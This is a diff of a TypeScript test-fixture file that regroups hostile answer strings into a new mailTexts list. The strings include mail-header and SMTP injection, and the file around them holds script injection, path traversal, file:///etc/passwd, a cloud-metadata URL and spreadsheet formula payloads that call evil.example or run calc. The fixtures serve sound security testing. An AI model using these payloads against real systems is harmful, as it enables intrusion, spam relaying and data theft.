@@ -3,6 +3,23 @@ export const MARK = 'pwned7';
 
 const lines = (name: string) => `Pat\r\n${name}: evil@evil.example`;
 
+/** Answers that try to become headers, recipients or commands of mail. */
+export const mailTexts = [
+  lines('Bcc'),
+  lines('Content-Type'),
+  'Pat\nTo: evil@evil.example\n\n<b>Body</b>',
+  'Pat\rBcc: evil@evil.example',
+  'pat@gold.example\r\nBcc: evil@evil.example',
+  'pat@gold.example, evil@evil.example',
+  'pat@gold.example;evil@evil.example',
+  '"evil@evil.example"@gold.example',
+  'Evil <evil@evil.example>',
+  'pat@gold.example%0aBcc:evil@evil.example',
+  'pat@[127.0.0.1]',
+  '=?utf-8?Q?Pat=0ABcc:_evil=40evil.example?=',
+  '.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>',
+];
+
 /** Hostile answers to any question. */
 export const hostileTexts: (string | Buffer)[] = [
   `<script>${MARK}()</script>`,
@@ -25,20 +42,7 @@ export const hostileTexts: (string | Buffer)[] = [
   '..\\..\\windows\\win.ini',
   'file:///etc/passwd',
   'http://169.254.169.254/latest/meta-data/',
-  // Headers of mail.
-  lines('Bcc'),
-  lines('Content-Type'),
-  'Pat\nTo: evil@evil.example\n\n<b>Body</b>',
-  'Pat\rBcc: evil@evil.example',
-  'pat@gold.example\r\nBcc: evil@evil.example',
-  'pat@gold.example, evil@evil.example',
-  'pat@gold.example;evil@evil.example',
-  '"evil@evil.example"@gold.example',
-  'Evil <evil@evil.example>',
-  'pat@gold.example%0aBcc:evil@evil.example',
-  'pat@[127.0.0.1]',
-  '=?utf-8?Q?Pat=0ABcc:_evil=40evil.example?=',
-  '.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>',
+  ...mailTexts,
   // Formulas in spreadsheets.
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example","See")',
